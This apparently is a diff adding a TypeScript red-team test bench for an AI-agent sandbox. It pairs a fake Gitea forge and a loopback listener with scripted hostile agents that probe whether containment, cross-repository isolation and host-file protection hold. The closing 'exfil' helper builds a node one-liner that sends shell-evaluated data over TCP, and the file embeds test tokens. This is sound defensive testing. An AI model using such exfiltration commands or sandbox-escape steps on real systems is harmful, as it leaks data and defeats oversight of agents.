@@ -1,0 +1,276 @@
+// The red team's bench: a Gitea-compatible test server with two repositories the
+// bot may write to, a loopback listener that must never hear anything, and
+// hostile script agents launched in real bottles with the steps any agent's shell
+// tool has (sh, symlinks, modes, raw sidecar calls).
+import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server, type Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { closeGiteaPools } from '@bb/forge';
+import { createGiteaTestServer, type GiteaTestServer } from '@bb/forge/testing';
+import {
+  type BottleMeta,
+  DockerBackend,
+  HOME_LABEL,
+  homeLabel,
+  launch,
+  readMeta,
+  resume,
+  type TurnOutcome,
+} from '@bb/headless';
+import { type RecordedTurn, recordTurn } from '@bb/lifecycle';
+import {
+  GitleaksScanner,
+  loadOrCreateSigningKey,
+  ProvenanceStore,
+  type RunRecord,
+} from '@bb/provenance';
+import { BbDatabase } from '@bb/state';
+import { BASE_IMAGE } from '@bb/tooling/docker';
+
+export const TOKEN = 'bb-claude-redteam-token-5f3a9c2e71d4';
+
+/** A TCP listener on loopback that records every byte anyone sends it. */
+export class Listener {
+  readonly #server: Server;
+  readonly #sockets = new Set<Socket>();
+  #heard = '';
+  connections = 0;
+  port = 0;
+
+  constructor() {
+    this.#server = createServer((s) => {
+      this.connections++;
+      this.#sockets.add(s);
+      s.on('data', (d) => (this.#heard += d.toString('latin1')));
+      s.on('close', () => this.#sockets.delete(s));
+      s.on('error', () => {});
+      // Answer like a web server would, so a client that reached it goes on talking.
+      s.setTimeout(2000, () => s.destroy());
+    });
+  }
+
+  async start(): Promise<this> {
+    await new Promise<void>((r) => this.#server.listen(0, '127.0.0.1', r));
+    this.port = (this.#server.address() as { port: number }).port;
+    return this;
+  }
+
+  get heard(): string {
+    return this.#heard;
+  }
+
+  async close(): Promise<void> {
+    for (const s of this.#sockets) s.destroy();
+    await new Promise<void>((r) => this.#server.close(() => r()));
+  }
+}
+
+export interface Step {
+  do: string;
+  [k: string]: unknown;
+}
+
+export interface HostileRun {
+  slug: string;
+  /** `$BB_HOME/bottles/<slug>` */
+  dir: string;
+  outcome: TurnOutcome;
+  /** The `{"type":"step",...}` lines the script agent printed. */
+  steps: Array<Record<string, unknown>>;
+  startedAt: string;
+}
+
+/** The whole bench for one test file. */
+export class RedTeam {
+  home = '';
+  /** A host directory the agent must never reach: owned by root, holding `victim.txt`. */
+  hostDir = '';
+  gitea!: GiteaTestServer;
+  listener = new Listener();
+  backend = new DockerBackend();
+  db!: BbDatabase;
+  prov!: ProvenanceStore;
+  issue = 0;
+  #n = 0;
+
+  get env(): Record<string, string | undefined> {
+    return { BB_HOME: this.home, BB_BASE_IMAGE: BASE_IMAGE };
+  }
+
+  async start(seedFiles: Record<string, string> = {}): Promise<this> {
+    this.home = mkdtempSync(join(tmpdir(), 'bb-redteam-'));
+    this.hostDir = mkdtempSync(join(tmpdir(), 'bb-redteam-host-'));
+    chmodSync(this.hostDir, 0o755);
+    writeFileSync(join(this.hostDir, 'victim.txt'), 'host-original\n', { mode: 0o644 });
+    for (const kind of ['agents', 'bottles'])
+      mkdirSync(join(this.home, 'config', kind), { recursive: true });
+    this.bottle('default', { image: BASE_IMAGE });
+    await this.listener.start();
+    this.gitea = await createGiteaTestServer({
+      world: {
+        users: [
+          { login: 'alice', tokens: ['alice-token-redteam-0001'] },
+          { login: 'bb-claude', tokens: [TOKEN] },
+        ],
+        orgs: [
+          { name: 'acme', members: ['alice'] },
+          { name: 'bot-bottle', members: ['bb-claude'] },
+        ],
+        repos: [
+          {
+            owner: 'acme',
+            name: 'widgets',
+            collaborators: ['bb-claude'],
+            ...(Object.keys(seedFiles).length ? { files: seedFiles } : {}),
+          },
+          // Another repository the bot can write to: nothing a bottle of widgets does may reach it.
+          { owner: 'acme', name: 'other', collaborators: ['bb-claude'] },
+        ],
+      },
+    });
+    this.issue = this.gitea.createIssue('alice', 'acme/widgets', {
+      title: 'Fix the thing',
+      body: 'It is broken.',
+      labels: ['bot-bottle:implementer'],
+      assignees: ['bb-claude'],
+    });
+    this.db = BbDatabase.open({ path: join(this.home, 'bot-bottle.db') });
+    this.prov = new ProvenanceStore(this.db);
+    return this;
+  }
+
+  async stop(): Promise<void> {
+    // Only this bench's bottles: other test files run theirs on the same engine.
+    for (const c of await this.backend.list({ [HOME_LABEL]: homeLabel(this.env) }).catch(() => []))
+      await this.backend.destroy(c.id).catch(() => {});
+    await this.listener.close();
+    await this.gitea?.close();
+    await closeGiteaPools();
+    this.db?.close();
+    rmSync(this.home, { recursive: true, force: true });
+    rmSync(this.hostDir, { recursive: true, force: true });
+  }
+
+  /** Write a bottle manifest. */
+  bottle(name: string, manifest: Record<string, unknown>): void {
+    writeFileSync(join(this.home, 'config', 'bottles', `${name}.json`), JSON.stringify(manifest));
+  }
+
+  /** Launch a hostile agent whose turns are these step lists, and run its first turn. */
+  async launch(
+    turns: Step[][],
+    options: {
+      bottles?: string[];
+      env?: Record<string, string>;
+      partial?: boolean;
+      /** The agent's name (and so its branch); @default a new one */
+      name?: string;
+    } = {},
+  ): Promise<HostileRun> {
+    const name = options.name ?? `rt${++this.#n}`;
+    writeFileSync(
+      join(this.home, 'config', 'agents', `${name}.json`),
+      JSON.stringify({
+        provider: 'script',
+        git: { name: 'Mallory', email: 'mallory@example.test' },
+        ...(options.bottles ? { bottles: options.bottles } : {}),
+        script: { turns: turns.map((steps) => ({ steps })) },
+      }),
+    );
+    const slug = `rt-${name}-${++this.#n}-${process.pid}`;
+    const startedAt = new Date().toISOString();
+    const outcome = await launch({
+      agent: name,
+      slug,
+      prompt: 'Fix the thing.',
+      backend: this.backend,
+      env: { ...this.env, ...options.env },
+      forge: {
+        apiUrl: this.gitea.apiUrl,
+        token: TOKEN,
+        owner: 'acme',
+        repo: 'widgets',
+        issue: this.issue,
+        cloneUrl: this.gitea.cloneUrl('acme/widgets'),
+      },
+    });
+    return this.#run(slug, outcome, startedAt, options.partial ? undefined : turns[0]!.length);
+  }
+
+  async resume(
+    run: HostileRun,
+    prompt = 'Go on.',
+    options: { env?: Record<string, string>; pr?: number; steps?: number } = {},
+  ): Promise<HostileRun> {
+    const startedAt = new Date().toISOString();
+    const outcome = await resume({
+      slug: run.slug,
+      prompt,
+      forgeToken: TOKEN,
+      backend: this.backend,
+      env: { ...this.env, ...options.env },
+      ...(options.pr ? { pr: options.pr } : {}),
+    });
+    return this.#run(run.slug, outcome, startedAt, options.steps);
+  }
+
+  /** Record the turn as the orchestrator does: queue, op log, real gitleaks, signature. */
+  async record(run: HostileRun, prs: number[] = []): Promise<RecordedTurn & { record: RunRecord }> {
+    return recordTurn({
+      slug: run.slug,
+      agent: this.meta(run).agent,
+      env: this.env,
+      forge: { owner: 'acme', repo: 'widgets', issue: this.issue },
+      prs,
+      outcome: run.outcome,
+      startedAt: run.startedAt,
+      provenance: {
+        store: this.prov,
+        key: loadOrCreateSigningKey(this.home),
+        scanner: new GitleaksScanner(),
+        bbVersion: '0.0.0',
+        gitCommit: null,
+      },
+    });
+  }
+
+  meta(run: HostileRun): BottleMeta {
+    return readMeta(run.slug, this.env)!;
+  }
+
+  /** Refs of a repository on the test forge: `refs/heads/main sha`, ... */
+  async refs(fullName: string): Promise<string[]> {
+    const [owner, name] = fullName.split('/') as [string, string];
+    const out = await this.gitea.git.git(this.gitea.git.dirOf(owner, name), [
+      'for-each-ref',
+      '--format=%(refname)',
+    ]);
+    return out.split('\n').filter(Boolean).sort();
+  }
+
+  /**
+   * The run, checked to have played all `expected` steps: an attack that never ran
+   * (a typo in a script, a step the agent does not know) must not pass as a defence.
+   */
+  #run(slug: string, outcome: TurnOutcome, startedAt: string, expected?: number): HostileRun {
+    const steps = outcome.output.split('\n').flatMap((l) => {
+      try {
+        const o = JSON.parse(l) as Record<string, unknown>;
+        return o['type'] === 'step' ? [o] : [];
+      } catch {
+        return [];
+      }
+    });
+    if (expected !== undefined && steps.length !== expected)
+      throw new Error(
+        `the hostile agent played ${steps.length} of ${expected} steps:\n${outcome.output.slice(-3000)}`,
+      );
+    return { slug, dir: join(this.home, 'bottles', slug), outcome, steps, startedAt };
+  }
+}
+
+/** A shell step that sends `what` (evaluated in sh) to the listener over TCP with node. */
+export function exfil(port: number, what: string): string {
+  return `node -e "const s=require('net').connect(${port},'127.0.0.1');s.on('error',()=>{});s.end(process.argv[1])" "${what}"`;
+}
